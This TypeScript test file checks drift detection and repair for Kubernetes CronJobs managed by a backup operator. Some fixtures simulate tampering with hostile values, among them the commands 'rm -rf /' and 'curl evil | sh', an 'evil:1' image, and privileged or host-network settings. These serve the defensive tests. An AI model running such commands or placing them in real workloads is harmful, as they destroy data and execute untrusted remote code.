import { describe, expect, it } from 'vitest';
import { recordedCronJobRequest, recordedDefaultedCronJob } from '../fixtures/k8s-reference.ts';
import { cronJobDrift, mergeDesiredIntoObserved } from '../../src/pure/cronjob-diff.ts';
import type { KubeObject } from '../../src/kube/object.ts';
import { buildCronJob } from '../../src/pure/index.ts';
import { toV1alpha1 } from '../../src/conversion/index.ts';
import { asStored, schedule } from '../controller/fixtures.ts';

/** What a real kube-apiserver returned for a CronJob created from {@link requested} (recorded, v1.20). */
const recorded = recordedDefaultedCronJob();

const owner = { apiVersion: 'kubelings.dev/v1alpha1', kind: 'BackupSchedule', name: 'minimal', uid: 'u-1', controller: true, blockOwnerDeletion: true };

/** The request behind the recording: the recorded object minus every server default. */
function requested(): KubeObject {
  return recordedCronJobRequest({ name: 'minimal', namespace: 'kubelings', labels: { 'app.kubernetes.io/name': 'backup' }, annotations: { 'kubelings.dev/owner': 'minimal' }, ownerReferences: [owner] });
}

/** The recorded server answer, carrying the metadata our create sent. */
function observed(): KubeObject {
  const obj = structuredClone(recorded);
  const want = requested().metadata;
  obj.metadata = { ...obj.metadata, labels: { ...want.labels, 'team': 'sre' }, annotations: { ...want.annotations }, ownerReferences: [owner] };
  return obj;
}

type Edit = (obj: KubeObject & { spec: any }) => void;

describe('cronJobDrift', () => {
  it('finds no drift between the desired CronJob and its server-defaulted form', () => {
    expect(cronJobDrift(observed(), requested())).toEqual([]);
  });

  it('ignores foreign labels, annotations and owner references next to ours', () => {
    const obj = observed();
    obj.metadata.labels = { ...obj.metadata.labels, foreign: 'x' };
    obj.metadata.annotations = { ...obj.metadata.annotations, 'kubectl.kubernetes.io/last-applied-configuration': '{}' };
    obj.metadata.ownerReferences = [...(obj.metadata.ownerReferences ?? []), { apiVersion: 'v1', kind: 'ConfigMap', name: 'x', uid: 'u-2' }];
    expect(cronJobDrift(obj, requested())).toEqual([]);
  });

  it.each<[string, Edit, string]>([
    ['the schedule', (o) => (o.spec.schedule = '0 3 * * *'), 'spec.schedule'],
    ['the image', (o) => (o.spec.jobTemplate.spec.template.spec.containers[0].image = 'evil:1'), 'spec.jobTemplate.spec.template.spec.containers[0].image'],
    ['a command argument', (o) => (o.spec.jobTemplate.spec.template.spec.containers[0].command[2] = 'rm -rf /'), 'spec.jobTemplate.spec.template.spec.containers[0].command[2]'],
    ['an extra container', (o) => o.spec.jobTemplate.spec.template.spec.containers.push({ name: 'x', image: 'x' }), 'spec.jobTemplate.spec.template.spec.containers'],
    ['a removed volume', (o) => o.spec.jobTemplate.spec.template.spec.volumes.pop(), 'spec.jobTemplate.spec.template.spec.volumes'],
    ['an environment value', (o) => (o.spec.jobTemplate.spec.template.spec.containers[0].env[0].valueFrom.secretKeyRef.key = 'other'), 'spec.jobTemplate.spec.template.spec.containers[0].env[0].valueFrom.secretKeyRef.key'],
    ['the claim name', (o) => (o.spec.jobTemplate.spec.template.spec.volumes[0].persistentVolumeClaim.claimName = 'other'), 'spec.jobTemplate.spec.template.spec.volumes[0].persistentVolumeClaim.claimName'],
    ['the restart policy', (o) => (o.spec.jobTemplate.spec.template.spec.restartPolicy = 'Never'), 'spec.jobTemplate.spec.template.spec.restartPolicy'],
    ['a foreign time zone', (o) => (o.spec.timeZone = 'Europe/Paris'), 'spec.timeZone'],
    ['a foreign starting deadline', (o) => (o.spec.startingDeadlineSeconds = 5), 'spec.startingDeadlineSeconds'],
    ['foreign supplemental groups', (o) => (o.spec.jobTemplate.spec.template.spec.securityContext = { ...o.spec.jobTemplate.spec.template.spec.securityContext, supplementalGroups: [0] }), 'spec.jobTemplate.spec.template.spec.securityContext.supplementalGroups'],
    ['a foreign fsGroupChangePolicy', (o) => (o.spec.jobTemplate.spec.template.spec.securityContext = { ...o.spec.jobTemplate.spec.template.spec.securityContext, fsGroupChangePolicy: 'Always' }), 'spec.jobTemplate.spec.template.spec.securityContext.fsGroupChangePolicy'],
    ['our label', (o) => (o.metadata.labels = { 'app.kubernetes.io/name': 'other' }), 'metadata.labels.app.kubernetes.io/name'],
    ['our annotation', (o) => delete o.metadata.annotations, 'metadata.annotations.kubelings.dev/owner'],
    ['our owner reference', (o) => (o.metadata.ownerReferences = []), 'metadata.ownerReferences[u-1]'],
  ])('reports drift when someone changes %s', (_name, edit, path) => {
    const obj = observed() as KubeObject & { spec: any };
    edit(obj);
    expect(cronJobDrift(obj, requested())).toEqual([path]);
  });

  it('compares resource quantities by value, as the server canonicalises them', () => {
    const want = requested() as KubeObject & { spec: any };
    want.spec.jobTemplate.spec.template.spec.containers[0].resources = { requests: { cpu: '1000m', memory: '1024Mi' } };
    const obj = observed() as KubeObject & { spec: any };
    obj.spec.jobTemplate.spec.template.spec.containers[0].resources = { requests: { cpu: '1', memory: '1Gi' } };
    expect(cronJobDrift(obj, want)).toEqual([]);
    obj.spec.jobTemplate.spec.template.spec.containers[0].resources.requests.cpu = '2';
    expect(cronJobDrift(obj, want)).toEqual(['spec.jobTemplate.spec.template.spec.containers[0].resources.requests.cpu']);
  });

  it("compares an emptyDir's sizeLimit by value: the scratch volume takes it from the ephemeral-storage limit as written", () => {
    const withScratch = (sizeLimit: string, o: KubeObject & { spec: any }): KubeObject => {
      o.spec.jobTemplate.spec.template.spec.volumes.push({ name: 'tmp', emptyDir: { sizeLimit } });
      return o;
    };
    const want = withScratch('12288Mi', requested() as KubeObject & { spec: any });
    expect(cronJobDrift(withScratch('12Gi', observed() as KubeObject & { spec: any }), want)).toEqual([]);
    const changed = withScratch('8Gi', observed() as KubeObject & { spec: any }) as KubeObject & { spec: any };
    expect(cronJobDrift(changed, want)).toEqual([`spec.jobTemplate.spec.template.spec.volumes[${changed.spec.jobTemplate.spec.template.spec.volumes.length - 1}].emptyDir.sizeLimit`]);
  });
});

describe('quantities in the drift check', () => {
  const withCpu = (cpu: string): KubeObject & { spec: any } => {
    const o = requested() as KubeObject & { spec: any };
    o.spec.jobTemplate.spec.template.spec.containers[0].resources = { requests: { cpu } };
    return o;
  };
  it.each([
    ['1000m', '1'], ['1024Mi', '1Gi'], ['1.5k', '1500'], ['1e3', '1k'], ['100Ki', '102400'],
  ])('takes %s and %s as the same value', (desired, stored) => {
    expect(cronJobDrift(withCpu(stored), withCpu(desired))).toEqual([]);
  });
  it.each([
    ['9007199254740993', '9007199254740992'], ['1001m', '1'], ['lots', 'lots '],
  ])('takes %s and %s as different (exactly, as the API compares them)', (desired, stored) => {
    expect(cronJobDrift(withCpu(stored), withCpu(desired))).toEqual(['spec.jobTemplate.spec.template.spec.containers[0].resources.requests.cpu']);
  });
});

describe('mergeDesiredIntoObserved', () => {
  it('heals every owned field and keeps defaults, foreign fields and the resourceVersion', () => {
    const drifted = observed() as KubeObject & { spec: any };
    drifted.metadata.labels = { team: 'sre' };
    drifted.metadata.ownerReferences = [];
    drifted.spec.schedule = '* * * * *';
    drifted.spec.timeZone = 'Europe/Paris';
    drifted.spec.jobTemplate.spec.template.spec.containers[0].image = 'evil:1';
    drifted.spec.jobTemplate.spec.template.spec.containers.push({ name: 'sidecar', image: 'x' });
    const before = structuredClone(drifted);

    const merged = mergeDesiredIntoObserved(drifted, requested()) as KubeObject & { spec: any };

    expect(cronJobDrift(merged, requested())).toEqual([]);
    expect(drifted).toEqual(before);
    expect(merged.metadata.resourceVersion).toBe('225');
    expect(merged.metadata.uid).toBe(recorded.metadata.uid);
    expect(merged.metadata.labels).toEqual({ team: 'sre', 'app.kubernetes.io/name': 'backup' });
    expect(merged.spec.timeZone).toBeUndefined();
    const container = merged.spec.jobTemplate.spec.template.spec.containers;
    expect(container).toHaveLength(1);
    expect(container[0]).toMatchObject({ image: 'busybox:1.36', terminationMessagePath: '/dev/termination-log', imagePullPolicy: 'IfNotPresent' });
    expect(merged.spec.concurrencyPolicy).toBe('Allow');
    expect(merged.spec.jobTemplate.spec.template.spec.schedulerName).toBe('default-scheduler');
  });

  it('changes nothing when nothing drifted', () => {
    expect(mergeDesiredIntoObserved(observed(), requested())).toEqual(observed());
  });
});

describe('switching the source of a schedule', () => {
  // PVC source → etcd source removes the `source` volume and its mount: named items must be matched
  // by name, or the old PVC source is grafted onto the next volume (two types in one volume: a 422).
  const pvcSchedule = schedule({ spec: { source: { type: 'PersistentVolumeClaim', persistentVolumeClaim: { claimName: 'data' } } } });
  const etcdSchedule = schedule({ generation: 2 });
  const observed = asStored(buildCronJob(pvcSchedule) as KubeObject);
  const desired = buildCronJob(etcdSchedule) as KubeObject;

  it('reports the changed volumes, mounts and arguments as drift', () => {
    expect(cronJobDrift(observed, desired)).toEqual(
      expect.arrayContaining(['spec.jobTemplate.spec.template.spec.volumes', 'spec.jobTemplate.spec.template.spec.containers[0].volumeMounts']),
    );
  });

  it('merges each volume and mount with its namesake only, and then finds no drift', () => {
    const merged = mergeDesiredIntoObserved(observed, desired);
    const pod = (merged['spec'] as any).jobTemplate.spec.template.spec;
    const wanted = (desired['spec'] as any).jobTemplate.spec.template.spec;
    expect(pod.volumes.map((v: { name: string }) => v.name)).toEqual(wanted.volumes.map((v: { name: string }) => v.name));
    for (const volume of pod.volumes) expect(volume.persistentVolumeClaim?.claimName, volume.name).not.toBe('data');
    expect(pod.containers[0].volumeMounts).toEqual(wanted.containers[0].volumeMounts);
    expect(cronJobDrift(asStored(merged), desired)).toEqual([]);
  });
});

describe('the controller owns the whole child spec', () => {
  const owned = schedule({ spec: { source: { type: 'PersistentVolumeClaim', persistentVolumeClaim: { claimName: 'data' } }, resources: { requests: { cpu: '100m', memory: '64Mi' } } } });
  const desired = buildCronJob(owned) as KubeObject;
  const stored = (): KubeObject & { spec: any } => asStored(desired) as KubeObject & { spec: any };
  const pod = 'spec.jobTemplate.spec.template.spec';

  it('finds no drift in the child as the API server stores it', () => {
    expect(cronJobDrift(stored(), desired)).toEqual([]);
  });

  it('reports a podFailurePolicy the server dropped (an old cluster, the feature gate off) or a hand edit removed', () => {
    const obj = stored();
    delete obj.spec.jobTemplate.spec.podFailurePolicy;
    expect(cronJobDrift(obj, desired)).toEqual(['spec.jobTemplate.spec.podFailurePolicy.rules']);
  });

  it('takes the status the server defaults into a podFailurePolicy onPodConditions pattern for no drift', () => {
    const withCondition = structuredClone(desired) as KubeObject & { spec: any };
    withCondition.spec.jobTemplate.spec.podFailurePolicy.rules.push({ action: 'Ignore', onPodConditions: [{ type: 'DisruptionTarget' }] });
    const obj = asStored(withCondition) as KubeObject & { spec: any };
    expect(obj.spec.jobTemplate.spec.podFailurePolicy.rules[1].onPodConditions[0].status).toBe('True');
    expect(cronJobDrift(obj, withCondition)).toEqual([]);
  });

  it.each<[string, Edit, string]>([
    ['a command', (o) => (o.spec.jobTemplate.spec.template.spec.containers[0].command = ['sh', '-c', 'curl evil | sh']), `${pod}.containers[0].command`],
    ['a privileged container', (o) => (o.spec.jobTemplate.spec.template.spec.containers[0].securityContext.privileged = true), `${pod}.containers[0].securityContext.privileged`],
    ['host networking', (o) => (o.spec.jobTemplate.spec.template.spec.hostNetwork = true), `${pod}.hostNetwork`],
    ['a service account', (o) => (o.spec.jobTemplate.spec.template.spec.serviceAccountName = 'admin'), `${pod}.serviceAccountName`],
    ['a read-only source mount made writable', (o) => delete o.spec.jobTemplate.spec.template.spec.containers[0].volumeMounts[1].readOnly, `${pod}.containers[0].volumeMounts[1].readOnly`],
    ['readOnly on the destination mount', (o) => (o.spec.jobTemplate.spec.template.spec.containers[0].volumeMounts[0].readOnly = true), `${pod}.containers[0].volumeMounts[0].readOnly`],
    ['a resource limit the spec no longer sets', (o) => (o.spec.jobTemplate.spec.template.spec.containers[0].resources.limits = { memory: '1Gi' }), `${pod}.containers[0].resources.limits.memory`],
    ['a dnsPolicy other than the default', (o) => (o.spec.jobTemplate.spec.template.spec.dnsPolicy = 'Default'), `${pod}.dnsPolicy`],
    ['a Job parallelism', (o) => (o.spec.jobTemplate.spec.parallelism = 5), 'spec.jobTemplate.spec.parallelism'],
    ['imagePullPolicy Never', (o) => (o.spec.jobTemplate.spec.template.spec.containers[0].imagePullPolicy = 'Never'), `${pod}.containers[0].imagePullPolicy`],
  ])('reports %s added by hand as drift', (_name, edit, path) => {
    const obj = stored();
    edit(obj);
    expect(cronJobDrift(obj, desired)).toEqual([path]);
  });

  it('accepts imagePullPolicy Always, which the AlwaysPullImages admission plugin sets', () => {
    const obj = stored();
    obj.spec.jobTemplate.spec.template.spec.containers[0].imagePullPolicy = 'Always';
    expect(cronJobDrift(obj, desired)).toEqual([]);
  });

  it('removes every hand-added field in one merge, which the server then stores without drift', () => {
    const obj = stored();
    Object.assign(obj.spec.jobTemplate.spec.template.spec, { hostNetwork: true, serviceAccountName: 'admin' });
    obj.spec.jobTemplate.spec.template.spec.containers[0].command = ['sh'];
    obj.spec.jobTemplate.spec.template.spec.containers[0].resources.limits = { memory: '1Gi' };
    const merged = mergeDesiredIntoObserved(obj, desired) as KubeObject & { spec: any };
    expect(merged.spec.jobTemplate.spec.template.spec).not.toHaveProperty('hostNetwork');
    expect(merged.spec.jobTemplate.spec.template.spec).not.toHaveProperty('serviceAccountName');
    expect(merged.spec.jobTemplate.spec.template.spec.containers[0]).not.toHaveProperty('command');
    expect(merged.spec.jobTemplate.spec.template.spec.containers[0].resources).toEqual({ requests: { cpu: '100m', memory: '64Mi' } });
    expect(merged.spec.jobTemplate.spec.template.spec.dnsPolicy).toBe('ClusterFirst');
    expect(cronJobDrift(asStored(merged), desired)).toEqual([]);
  });
});

describe('a child made from v1alpha1, reconciled from v1 (the upgrade)', () => {
  const v1 = schedule();
  const alpha = toV1alpha1(v1);
  const child = asStored(buildCronJob(alpha) as KubeObject);

  it('is in sync: its ownerReference names the same owner through the other version', () => {
    expect(child.metadata.ownerReferences?.[0]?.apiVersion).toBe('kubelings.dev/v1alpha1');
    expect(cronJobDrift(child, buildCronJob(v1) as KubeObject)).toEqual([]);
  });

  it('keeps that ownerReference when other drift is healed (no needless rewrite of it)', () => {
    const drifted = structuredClone(child) as KubeObject & { spec: { schedule: string } };
    drifted.spec.schedule = '* * * * *';
    const merged = mergeDesiredIntoObserved(drifted, buildCronJob(v1) as KubeObject);
    expect(merged.metadata.ownerReferences).toEqual(child.metadata.ownerReferences);
  });

  it('is drift when the reference names another group, kind, uid or role', () => {
    for (const edit of [{ apiVersion: 'other.dev/v1' }, { kind: 'Other' }, { uid: 'other' }, { controller: false }]) {
      const other = structuredClone(child);
      other.metadata.ownerReferences = [{ ...other.metadata.ownerReferences![0]!, ...edit }];
      expect(cronJobDrift(other, buildCronJob(v1) as KubeObject), JSON.stringify(edit)).not.toEqual([]);
    }
  });
});
